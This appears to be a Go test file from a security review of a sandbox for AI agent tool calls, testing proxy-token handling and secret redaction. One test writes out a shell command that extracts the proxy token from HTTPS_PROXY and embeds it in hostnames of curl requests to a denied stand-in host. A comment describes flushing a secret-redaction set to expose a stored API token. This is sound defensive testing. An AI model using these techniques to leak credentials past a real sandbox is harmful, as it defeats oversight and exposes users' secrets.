package agentproc_test

import (
	"errors"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/agentproc/agentproc"
)

// The eighteenth attack review's tests on the proxy token per tree and the
// per-owner redaction sets (docs/sandbox-threats.md, "Eighteenth attack
// review (proxy token, owner sets)").

// TestAttackHostsStartRefusedNamesEnv: a NetworkHosts tree's proxy token
// is held in its owner's bounded redaction set while the tree runs
// (hosts.go, newHostsRun). A process of the same owner whose Request.Env
// fills that set (a tool call can: `env` in llmtool, MCP and httpapi)
// makes the owner's next NetworkHosts Start fail, though that request
// carries no Env at all; the error said "Request.Env: ... this request
// carry 3 secret-looking values", naming a cause the request does not
// have and hiding the one it has (the proxy token). The refusal itself is
// the bound working; the error now names the token. The control: once
// the holder is gone the same Start is taken.
func TestAttackHostsStartRefusedNamesEnv(t *testing.T) {
	requireHosts(t)
	m := newManager(t)
	agentproc.SetOwnerSecretBound(m, 2, 1<<20)
	a := m.Scope("alice")
	sb := hostsSandbox(t, "allowed.example")
	holder := mustStart(t, a, agentproc.Request{WorkDir: sb.Write[0], Command: "read line", Stdin: true,
		Env: map[string]string{"A_TOKEN": "heldTokenAAAA1111", "B_TOKEN": "heldTokenBBBB2222"}})
	t.Cleanup(func() { _, _ = holder.Stop(testContext(t)) })
	req := hostsRequest(t, sb, "true")
	if len(req.Env) != 0 {
		t.Fatalf("the hosts request carries Env %d values, want none", len(req.Env))
	}
	_, err := a.Start(testContext(t), req)
	if err == nil {
		t.Fatal("a NetworkHosts Start with the owner's set full of held Env secrets was taken, want it refused")
	}
	t.Logf("refused: %v", err)
	if !errors.Is(err, agentproc.ErrInvalidRequest) {
		t.Errorf("refused with %v, want ErrInvalidRequest", err)
	}
	if !strings.Contains(err.Error(), "proxy token") || strings.Contains(err.Error(), "this request carry") {
		t.Errorf("refused with %q, want the error to name the tree's proxy token, not secret-looking values the request does not carry", err)
	}
	if _, err := holder.Stop(testContext(t)); err != nil {
		t.Fatalf("Stop the holder: %v", err)
	}
	mustWait(t, mustStart(t, a, req)) // the control: room again, the same Start is taken
}

// TestAttack18nUnprivileged runs the tests again as the unprivileged test
// user, where the listener is on the host's loopback.
func TestAttack18nUnprivileged(t *testing.T) {
	requireSandbox(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root to switch users")
	}
	rerunAsSandboxUser(t, []string{"TestAttackHostsStartRefusedNamesEnv", "TestAttackDeadProxyTokensPushOutEnvSecrets", "TestAttackProxyTokenInDenial"}, false)
}

// TestAttackDeadProxyTokensPushOutEnvSecrets: a tree's proxy token is
// held in its owner's set while the tree runs, and "let go after"
// (docs/sandbox-threats.md, the seventeenth review's merge row); but the
// release only ended the hold: the token stayed in the set as a value no
// process holds, the most recently used one. Past the bound the set lets
// go of the least recently used such values first, so every NetworkHosts
// Start's dead token pushed out an older Env secret of the owner, which
// the set keeps after its process exits for a copy the process left in a
// file. Routine use does it (a NetworkHosts Start per curl, pip or git
// fetch: MaxOwnerSecrets of them); a model does it on purpose. Here, with
// a bound of four, four NetworkHosts Starts of `true` and the owner's
// earlier API_TOKEN printed raw. Now a released token is the first to go.
// The control: the secret is redacted before those Starts.
func TestAttackDeadProxyTokensPushOutEnvSecrets(t *testing.T) {
	requireHosts(t)
	m := newManager(t)
	agentproc.SetOwnerSecretBound(m, 4, 1<<20)
	a := m.Scope("alice")
	const secret = "envSecretKept0123456789Z"
	sb := hostsSandbox(t, "allowed.example")
	ws := sb.Write[0]
	mustWait(t, mustStart(t, a, agentproc.Request{WorkDir: ws, Env: map[string]string{"API_TOKEN": secret},
		Command: `printf '%s\n' "$API_TOKEN" > copy.txt`}))
	show := func() string {
		p := mustStart(t, a, agentproc.Request{WorkDir: ws, Command: "cat copy.txt"})
		mustWait(t, p)
		return strings.TrimSpace(p.Output().Text)
	}
	if got := show(); got != "[redacted:API_TOKEN]" {
		t.Fatalf("control: the owner's copy of its earlier Env secret read %q, want it redacted", got)
	}
	for range 4 {
		mustWait(t, mustStart(t, a, hostsRequest(t, sb, "true")))
	}
	if got := show(); strings.Contains(got, secret) {
		t.Errorf("after four NetworkHosts Starts the owner's copy read %q: their ended trees' tokens pushed its Env secret out of its set", got)
	}
}

// TestAttackProxyTokenInDenial (held): a tree puts its own proxy token,
// which it reads from its proxy variables, in the host name of a request
// its list refuses, upper case and lower case (the proxy lowers a host
// name), over HTTP and CONNECT: the denial's target reaches Info, events,
// httpapi's JSON and llmtool's text. It reads the redacted name. The
// control: the denial is there, and names the refused host's suffix.
func TestAttackProxyTokenInDenial(t *testing.T) {
	requireHosts(t)
	m := newManager(t)
	sb := hostsSandbox(t, "allowed.example")
	p := mustStart(t, m.Scope("alice"), hostsRequest(t, sb, `t=${HTTPS_PROXY#*agentproc:}; t=${t%%@*}; l=$(printf %s "$t" | tr A-Z a-z)
for h in "$t" "$l"; do curl -s -o /dev/null https://$h.denied.example/; curl -s -o /dev/null http://$h.denied.example/; done; true`))
	mustWait(t, p)
	ds := p.Info().Denials
	if len(ds) == 0 {
		t.Fatalf("control: no denial in Info, want the refused hosts'")
	}
	env := regexp.MustCompile(`[A-Z2-7]{26}`)
	for _, d := range ds {
		t.Logf("denial: %+v", d)
		if !strings.Contains(d.Target, "denied.example") {
			t.Errorf("control: denial %+v, want the refused host", d)
		}
		if env.MatchString(strings.ToUpper(strings.ReplaceAll(d.Target, "redacted", ""))) {
			t.Errorf("denial %+v shows a token-like name, want the tree's token redacted", d)
		}
	}
}
